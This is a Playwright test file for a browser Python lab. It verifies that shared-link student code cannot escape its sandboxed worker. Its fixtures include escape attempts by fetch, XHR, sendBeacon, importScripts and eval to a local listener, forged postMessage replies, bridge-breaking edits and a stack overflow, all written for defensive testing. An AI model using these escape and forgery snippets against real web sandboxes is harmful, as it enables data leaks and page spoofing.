"""Code that runs in the lab stays in the lab: edited Python, once Run, cannot reach another site.

The Python worker starts from a blob: URL, so it inherits the page's Content-Security-Policy
(connect-src and script-src 'self', no eval), even on a host that sends no headers (GitHub Pages; here
the lab served without COOP/COEP). A link's code is Run (the consent it asks for), and tries every way
out of the worker: fetch, a synchronous XHR, sendBeacon, importScripts and eval, each towards a server
of another site (localhost) that counts what arrives. Nothing may arrive, and the code still runs.
"""
import http.server
import re
import threading

import pytest
from playwright.sync_api import expect

from conftest import BOOT_TIMEOUT

LEAKY = '''def neuron(X, w1, w2, b, f="sign"):
    import js
    url = "{url}"
    def xhr():
        r = js.XMLHttpRequest.new()
        r.open("GET", url + "?via=xhr", False)
        r.send()
    tries = [lambda: js.fetch(url + "?via=fetch"), xhr,
             lambda: js.navigator.sendBeacon(url + "?via=beacon", "data"),
             lambda: js.importScripts(url + "?via=importScripts"),
             lambda: js.eval("fetch('" + url + "?via=eval')")]
    for attempt in tries:
        try:
            attempt()
        except Exception:
            pass
    return np.zeros(len(X)) - 1.0
'''


@pytest.fixture(scope="module")
def listener():
    """Another site that records every request it receives."""
    seen = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.seen = seen
    server.url = f"http://localhost:{server.server_address[1]}/leak"
    yield server
    server.shutdown()


def run_link_code(browser, site, source, route="neuron", name="neuron"):
    """A page that opened a link whose code= holds `source` for the lesson's `name`, and pressed Run."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, service_workers="block")
    page = context.new_page()
    page.goto(site.url + "#/")
    module = "backprop_lab.lessons." + route.replace("-", "_")
    code = page.evaluate("""async ([module, name, source]) => (await import("./app/ui/code-panel.js")).encodeShare(
      [{ module, name, source }])""", [module, name, source])
    page.goto(f"{site.url}#/{route}?code={code}")
    page.get_by_role("region", name="This link contains edited Python. Run it?").get_by_role(
        "button", name="Run", exact=True).click(timeout=BOOT_TIMEOUT)
    return context, page


def test_run_code_cannot_reach_another_site(browser, plain_site, listener):
    context, page = run_link_code(browser, plain_site, LEAKY.format(url=listener.url))
    expect(page.get_by_text("Running your code: neuron", exact=True)).to_be_visible(timeout=BOOT_TIMEOUT)
    expect(page.get_by_text(re.compile(r"^Colour: orange"))).to_contain_text("orange = -1.00")
    # Answered: the remount does not ask again over code that already runs, and the link lost code=.
    expect(page.get_by_role("region", name=re.compile("This link contains edited Python"))).to_have_count(0)
    assert "code=" not in page.url
    page.get_by_label("Bias b").focus()
    page.keyboard.press("ArrowRight")                    # the edited neuron runs again
    expect(page.get_by_text(re.compile(r"^Colour: orange"))).to_contain_text("orange = -1.00")
    page.wait_for_timeout(1000)                          # the window for a late request to arrive
    assert listener.seen == [], f"requests left for another site: {listener.seen}"
    context.close()


def test_the_listener_would_see_a_request_from_outside_the_policy(browser, listener, lecturer):
    """The control: the same fetch from a page with no such policy (a page of the lecturer's site)
    does arrive, so the 0 above means blocked, not unreachable."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(lecturer.url)
    before = len(listener.seen)
    page.evaluate("(url) => fetch(url + '?via=control').then((r) => r.status)", listener.url)
    assert len(listener.seen) == before + 1 and listener.seen[-1].endswith("via=control")
    listener.seen.clear()
    context.close()


FORGER = '''def neuron(X, w1, w2, b, f="sign"):
    import js
    js.postMessage(js.JSON.parse('{"type": "progress", "stage": "package", "detail": "FAKE PROGRESS", "fraction": 0.5}'))
    for i in range(1, 300):   # an answer for every call id the page may be waiting on
        js.postMessage(js.JSON.parse('{"id": %d, "ok": true, "result": {"forged": true}}' % i))
    return np.zeros(len(X)) - 1.0
'''


def test_messages_posted_by_run_code_are_not_believed(browser, plain_site):
    """The page listens to the runtime only on the port it handed over at boot: a progress line or a
    call's answer posted by student code with self.postMessage changes nothing on the page."""
    context, page = run_link_code(browser, plain_site, FORGER)
    legend = page.get_by_text(re.compile(r"^Colour: orange"))
    expect(legend).to_contain_text("orange = -1.00", timeout=BOOT_TIMEOUT)
    page.get_by_label("Bias b").focus()
    for _ in range(3):
        page.keyboard.press("ArrowRight")                # more calls: each one forges answers again
    expect(page).to_have_url(re.compile(r"b=-0\.2"))
    expect(legend).to_contain_text("orange = -1.00")    # the real answer, drawn
    expect(page.locator("#boot")).to_be_hidden()
    expect(page.locator("#fault")).to_be_hidden()
    page.get_by_label("Activation f").select_option("sigmoid")   # one more call, answered for real
    expect(legend).to_contain_text("orange = 0.00, blue = 1.00")   # sigmoid's range: the page took the real answer
    expect(page.locator("#fault")).to_be_hidden()
    context.close()


TOP_LEVEL_BREAKER = '''from backprop_lab import bridge as B
B.run_lesson = None
def neuron(X, w1, w2, b, f="sign"):
    return np.zeros(len(X)) - 1.0
'''

FIRST_CALL_BREAKER = '''def neuron(X, w1, w2, b, f="sign"):
    from backprop_lab import bridge as B
    B.run_lesson = None
    return np.zeros(len(X)) - 1.0
'''

# Breaks the bridge on its second call: past the watched first call, as a determined student could.
SECOND_CALL_BREAKER = '''calls = []
def neuron(X, w1, w2, b, f="sign"):
    calls.append(1)
    if len(calls) > 1:
        from backprop_lab import bridge as B
        B.run_lesson = None
    return np.zeros(len(X)) - 1.0
'''


def lab_neuron_works(page):
    """The lab's own neuron answers: sign's legend, then sigmoid's after a switch, and no fault."""
    legend = page.get_by_text(re.compile(r"^Colour: orange"))
    expect(legend).to_contain_text("orange = -1.00, blue = 1.00", timeout=BOOT_TIMEOUT)
    page.get_by_label("Activation f").select_option("sigmoid")
    expect(legend).to_contain_text("orange = 0.00, blue = 1.00", timeout=BOOT_TIMEOUT)
    expect(page.locator("#fault")).to_be_hidden()
    page.get_by_label("Activation f").select_option("sign")
    expect(legend).to_contain_text("orange = -1.00, blue = 1.00", timeout=BOOT_TIMEOUT)


def test_an_edit_that_rebinds_the_lab_at_its_top_level_is_refused_and_the_lesson_works(browser, plain_site):
    """Item 8: `B.run_lesson = None` at an edit's top level used to break every later call, for good."""
    context, page = run_link_code(browser, plain_site, TOP_LEVEL_BREAKER)
    expect(page.get_by_text(re.compile(r"Not accepted\. Your code changed the lab's own "
                                       r"backprop_lab\.bridge\.run_lesson at its top level"))).to_be_visible(timeout=BOOT_TIMEOUT)
    expect(page.get_by_text("Running your code: neuron", exact=True)).to_be_hidden()
    lab_neuron_works(page)
    page.reload()
    lab_neuron_works(page)
    context.close()


def test_an_edit_that_breaks_the_bridge_on_its_first_call_is_taken_out(browser, plain_site):
    context, page = run_link_code(browser, plain_site, FIRST_CALL_BREAKER)
    expect(page.get_by_text(re.compile(r"changed the lab's own backprop_lab\.bridge\.run_lesson when the lesson "
                                       r"first called it\. .*The demo went back to the lab's own neuron"))).to_be_visible(
        timeout=BOOT_TIMEOUT)
    expect(page.get_by_text("Running your code: neuron", exact=True)).to_be_hidden()
    lab_neuron_works(page)
    context.close()


def test_reset_removes_an_edit_that_broke_python_and_the_lesson_comes_back(browser, plain_site):
    """An edit that breaks the bridge itself (past its first call) makes every later call fail, Reset's
    own included. Reset still removes it: Python is restarted without it, and the lab's own neuron
    draws again, also after a reload (the broken edit is not stored any more)."""
    context, page = run_link_code(browser, plain_site, SECOND_CALL_BREAKER)
    expect(page.get_by_text("Running your code: neuron", exact=True)).to_be_visible(timeout=BOOT_TIMEOUT)
    page.get_by_label("Activation f").select_option("tanh")    # its second call: the bridge breaks
    reset = page.get_by_role("button", name="Reset neuron", exact=True)   # its panel is open after Run
    expect(reset).to_be_enabled(timeout=BOOT_TIMEOUT)
    reset.click()
    expect(page.get_by_text(re.compile("^The lab's own neuron is back: Python could not take your edit out, so it "
                                       "was restarted without it"))).to_be_visible(timeout=BOOT_TIMEOUT)
    expect(page.get_by_text("Running your code: neuron", exact=True)).to_be_hidden()
    lab_neuron_works(page)
    page.reload()
    lab_neuron_works(page)
    context.close()


def test_an_edit_that_returns_the_wrong_kind_of_value_is_named_and_taken_out(browser, plain_site):
    """Item 12: least squares' run returning a dict without W_hat made the page throw uncaught JS errors,
    and the student saw nothing."""
    wrong = "def run(n=40, noise=0.5, seed=0, eta=0.1, steps=200):\n    return {'W_hat': None}\n"
    context, page = run_link_code(browser, plain_site, wrong, route="least-squares", name="run")
    expect(page.get_by_text(re.compile(r"^The lesson could not use what your run returned \(.+\)\. An edit must "
                                       r"return what the lab's own version returns"))).to_be_visible(timeout=BOOT_TIMEOUT)
    expect(page.get_by_text(re.compile(r"^Running your code"))).to_be_hidden()
    expect(page.get_by_text(re.compile(r"^Iteration \d+: W = \["))).to_be_visible(timeout=BOOT_TIMEOUT)   # the lab's run draws
    expect(page.locator("#fault")).to_be_hidden()
    context.close()


DEEP_RECURSION = '''calls = []
def down(n):
    return 0 if n == 0 else down(n - 1)
def neuron(X, w1, w2, b, f="sign"):
    calls.append(1)
    if len(calls) > 1:
        import sys
        sys.setrecursionlimit(10 ** 6)
        down(10 ** 5)
    return np.zeros(len(X)) - 1.0
'''


def test_a_deep_recursion_that_breaks_python_restarts_it_without_the_edit(browser, plain_site):
    """Item 10: a raised recursion limit and a deep recursion overflowed the JavaScript stack, and Python
    was broken until a reload ("hiwire.get_value is falsy" on Reset). Its first call is watched (the limit
    is put back); this edit raises it on its second call: the worker is restarted without it."""
    context, page = run_link_code(browser, plain_site, DEEP_RECURSION)
    expect(page.get_by_text("Running your code: neuron", exact=True)).to_be_visible(timeout=BOOT_TIMEOUT)
    page.get_by_label("Activation f").select_option("tanh")    # its second call
    expect(page.get_by_text(re.compile(r"^Python itself failed while your neuron ran \(.+\), so it was restarted, "
                                       r"and the demo runs the lab's own neuron"))).to_be_visible(timeout=BOOT_TIMEOUT)
    expect(page.get_by_text("Running your code: neuron", exact=True)).to_be_hidden()
    page.get_by_label("Activation f").select_option("sign")
    lab_neuron_works(page)
    context.close()


FULL = """() => {   // fill this tab's sessionStorage to its quota, to the last character
  let n = 0;
  for (const size of [256 * 1024, 1024, 16, 0]) {
    try { for (;;) sessionStorage.setItem(`f${n++}`, "x".repeat(size)); } catch { /* full at this size */ }
  }
  return n;
}"""


def test_a_full_session_storage_keeps_the_edit_running_and_says_so(browser, plain_site):
    """#20: with the tab's storage full, Run used to install the edit without storing it, so the panel
    and the demo disagreed after the remount. Now the edit is kept in memory, and a line says so."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, service_workers="block")
    page = context.new_page()
    page.goto(plain_site.url + "#/neuron")
    legend = page.get_by_text(re.compile(r"^Colour: orange"))
    expect(legend).to_contain_text("orange = -1.00, blue = 1.00", timeout=BOOT_TIMEOUT)
    assert page.evaluate(FULL) > 0
    page.get_by_text("Python: backprop_lab.lessons.neuron.neuron", exact=True).click()
    page.get_by_role("button", name="Edit neuron", exact=True).click()
    editor = page.get_by_role("textbox", name=re.compile("neuron"))
    expect(editor).to_contain_text("def neuron(", timeout=BOOT_TIMEOUT)
    editor.click()
    page.keyboard.press("Control+a")
    page.keyboard.type('def neuron(X, w1, w2, b, f="sign"):\nreturn np.zeros(len(X)) + 1.0\n')
    page.get_by_role("button", name="Run neuron", exact=True).click()
    expect(page.get_by_text("Running your code: neuron", exact=True)).to_be_visible(timeout=BOOT_TIMEOUT)
    expect(page.get_by_text(re.compile("are kept only until this page closes: this tab's storage is full")).first).to_be_visible()
    expect(page.get_by_role("button", name="Reset neuron", exact=True)).to_be_enabled()
    context.close()


def test_a_browser_report_that_carries_no_error_does_not_take_an_edit_out(browser, plain_site):
    """The browser's "ResizeObserver loop completed…" arrives as an error event with no Error in it; it
    once took a running edit out as a "result the lesson could not use" (a clean-clone run caught it)."""
    context, page = run_link_code(browser, plain_site, 'def neuron(X, w1, w2, b, f="sign"):\n    return np.zeros(len(X)) - 1.0\n')
    running = page.get_by_text("Running your code: neuron", exact=True)
    expect(running).to_be_visible(timeout=BOOT_TIMEOUT)
    page.evaluate("""() => dispatchEvent(new ErrorEvent("error",
      { message: "ResizeObserver loop completed with undelivered notifications." }))""")
    page.get_by_label("Activation f").select_option("sigmoid")   # a call answered after it
    expect(page.get_by_text(re.compile(r"^Colour: orange"))).to_contain_text("orange = 0.00, blue = 1.00", timeout=BOOT_TIMEOUT)
    expect(running).to_be_visible()
    expect(page.get_by_text(re.compile("could not use what your"))).to_have_count(0)
    context.close()
